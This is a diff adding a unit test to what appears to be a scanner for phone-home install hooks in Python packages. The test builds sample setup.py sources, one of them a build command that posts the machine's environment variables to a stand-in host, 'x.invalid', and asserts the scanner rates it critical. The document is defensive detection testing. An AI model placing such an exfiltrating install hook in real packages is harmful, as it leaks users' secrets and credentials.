@@ -60,6 +60,32 @@ def test_install_command_override_that_phones_home() -> None:
     assert findings[0].severity is Severity.CRITICAL
 
 
+def test_a_child_environment_in_one_method_and_a_download_in_another_are_no_phone_home() -> None:
+    """apsw's build command copies os.environ to run ./configure and, elsewhere, downloads the
+    SQLite sources: a connection (high), but no facts about the machine sent anywhere."""
+    source = (
+        "import os, subprocess, urllib.request\n"
+        "from setuptools import setup\nfrom distutils.command.build import build\n"
+        "def download(url):\n"
+        "    return urllib.request.urlopen(url).read()\n"
+        "class Build(build):\n"
+        "    def run(self):\n"
+        "        data = download('https://sqlite.example/sqlite.zip')\n"
+        "        env = os.environ.copy()\n"
+        "        env['CC'] = 'gcc'\n"
+        "        subprocess.call(['./configure'], env=env)\n"
+        "setup(name='demo', cmdclass={'build': Build})\n"
+    )
+    severities = {f.severity for f in _setup(source) if f.rule == "PV-INS-002"}
+    assert Severity.CRITICAL not in severities
+    assert Severity.HIGH in severities
+    sent = source.replace("        data = download('https://sqlite.example/sqlite.zip')\n", "").replace(
+        "subprocess.call(['./configure'], env=env)",
+        "urllib.request.urlopen('https://x.invalid', str(env).encode())",
+    )
+    assert Severity.CRITICAL in {f.severity for f in _setup(sent) if f.rule == "PV-INS-002"}
+
+
 def test_build_ext_override_running_cmake_is_quiet() -> None:
     findings = _setup(
         "import subprocess\nfrom setuptools import setup\n"
